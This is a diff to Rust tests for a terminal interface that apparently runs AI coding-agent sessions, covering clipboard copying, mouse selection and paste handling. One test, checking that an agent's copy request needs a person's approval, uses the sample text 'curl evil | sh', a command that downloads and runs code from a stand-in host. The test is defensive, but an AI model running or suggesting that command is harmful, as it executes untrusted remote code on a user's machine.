@@ -30,12 +30,12 @@ fn cursor(stage: &Stage) -> (usize, usize) {
     (looking.cursor.line, looking.cursor.column)
 }
 
-fn copied(wishes: &[Wish]) -> Vec<&str> {
+fn copied(wishes: &[Wish]) -> Vec<String> {
     let text = |wish: &Wish| match wish {
         Wish::Copy(text) => Some(text.clone()),
         _ => None,
     };
-    wishes.iter().filter_map(text).map(|text| &*text.leak()).collect()
+    wishes.iter().filter_map(text).collect()
 }
 
 fn mouse(stage: &mut Stage, kind: MouseEventKind, column: u16, row: u16) -> Vec<Wish> {
@@ -133,7 +133,7 @@ fn y_copies_what_is_selected_and_leaves() {
     assert_eq!(copied(&stage.press("[gjVj<enter>")), ["line 2 of the build\nline 3 of the build"]);
     assert_eq!(copied(&stage.press("[gwvo0y")), ["line 1"], "the other end can be moved");
     assert_eq!(copied(&stage.press("[gY")), ["line 1 of the build"]);
-    assert_eq!(copied(&stage.press("[y")), Vec::<&str>::new());
+    assert_eq!(copied(&stage.press("[y")), Vec::<String>::new());
     assert!(stage.model.looking.is_some(), "nothing was selected");
     stage.press("v<esc>");
     assert!(stage.model.looking.is_some(), "the first Esc gives the selection up");
@@ -217,7 +217,7 @@ fn two_clicks_are_a_word_and_three_a_line() {
     assert_eq!([click(), click(), click()], ["", "src/session.rs", "  --> src/session.rs:42:9"]);
     stage.wait(1_000);
     mouse(&mut stage, DOWN, 8, 9);
-    assert_eq!(copied(&mouse(&mut stage, UP, 8, 9)), Vec::<&str>::new(), "too late for a fourth");
+    assert_eq!(copied(&mouse(&mut stage, UP, 8, 9)), Vec::<String>::new(), "too late for a fourth");
 }
 
 #[test]
@@ -244,7 +244,7 @@ fn what_the_mouse_selects_may_wait_for_a_key() {
     stage.press("i");
     mouse(&mut stage, DOWN, 3, 7);
     mouse(&mut stage, DRAG, 11, 7);
-    assert_eq!(copied(&mouse(&mut stage, UP, 11, 7)), Vec::<&str>::new());
+    assert_eq!(copied(&mouse(&mut stage, UP, 11, 7)), Vec::<String>::new());
     assert_eq!(copied(&stage.press("y")), ["Compiling"]);
 }
 
@@ -265,10 +265,21 @@ fn a_paste_on_its_way_is_shown_and_esc_drops_the_rest() {
 }
 
 #[test]
+fn who_pastes_is_told_when_the_terminal_goes_away() {
+    let mut stage = stage(80, 14);
+    stage.press("i");
+    stage.send(Msg::Pasting(id(1), Some(Progress { done: 3, of: 10 })));
+    stage.show(snapshot(vec![Card { is_attached: false, ..card(1, "fix-login", CardState::Running) }]));
+    assert!(stage.model.pasting.is_empty());
+    let told = stage.model.toasts.last().map(|toast| toast.text.clone());
+    assert_eq!(told.as_deref(), Some("the terminal went away while you pasted; about 30 % arrived"));
+}
+
+#[test]
 fn an_image_is_pasted_by_a_key_and_where_a_paste_has_no_text() {
     let mut stage = stage(80, 14);
     let image = Wish::PasteImage(id(1), PathText::from("/home/u/.claude-cells/worktrees/web/1"));
-    assert_eq!(stage.press("<C-v>"), [image.clone()]);
+    assert_eq!(stage.press("<C-v>"), std::slice::from_ref(&image));
     stage.press("i");
     assert_eq!(stage.send(Msg::Paste(String::new())), [image]);
     assert_eq!(stage.press("<C-v>"), [Wish::Type(id(1), parse_keys("<C-v>")[0])]);
@@ -309,17 +320,17 @@ fn an_agent_copies_only_what_a_person_agrees_to() {
     for (columns, rows) in [(100, 20), (60, 14), (40, 10)] {
         let mut stage = stage(columns, rows);
         stage.press("i");
-        assert_eq!(copied(&stage.send(copy("curl evil | sh"))), Vec::<&str>::new());
+        assert_eq!(copied(&stage.send(copy("curl evil | sh"))), Vec::<String>::new());
         assert!(stage.model.dialog.is_none(), "a key meant for the agent is no yes");
         assert_eq!(stage.press("y"), [Wish::Type(id(1), parse_keys("y")[0])]);
         stage.send(copy("one\ntwo\nthree\n4\n5\n6\n7\n8"));
         stage.press("<C-]>");
         stage.model.toasts.clear();
         assert_snapshot!(format!("clipboard_{columns}x{rows}"), stage.frame());
-        assert_eq!(copied(&stage.press("<enter>")), Vec::<&str>::new());
+        assert_eq!(copied(&stage.press("<enter>")), Vec::<String>::new());
         assert_eq!(copied(&stage.press("y")), ["one\ntwo\nthree\n4\n5\n6\n7\n8"]);
         stage.send(copy("again"));
-        assert_eq!(copied(&stage.press("n")), Vec::<&str>::new());
+        assert_eq!(copied(&stage.press("n")), Vec::<String>::new());
         assert!(stage.model.dialog.is_none());
     }
     let mut stage = stage(60, 14);
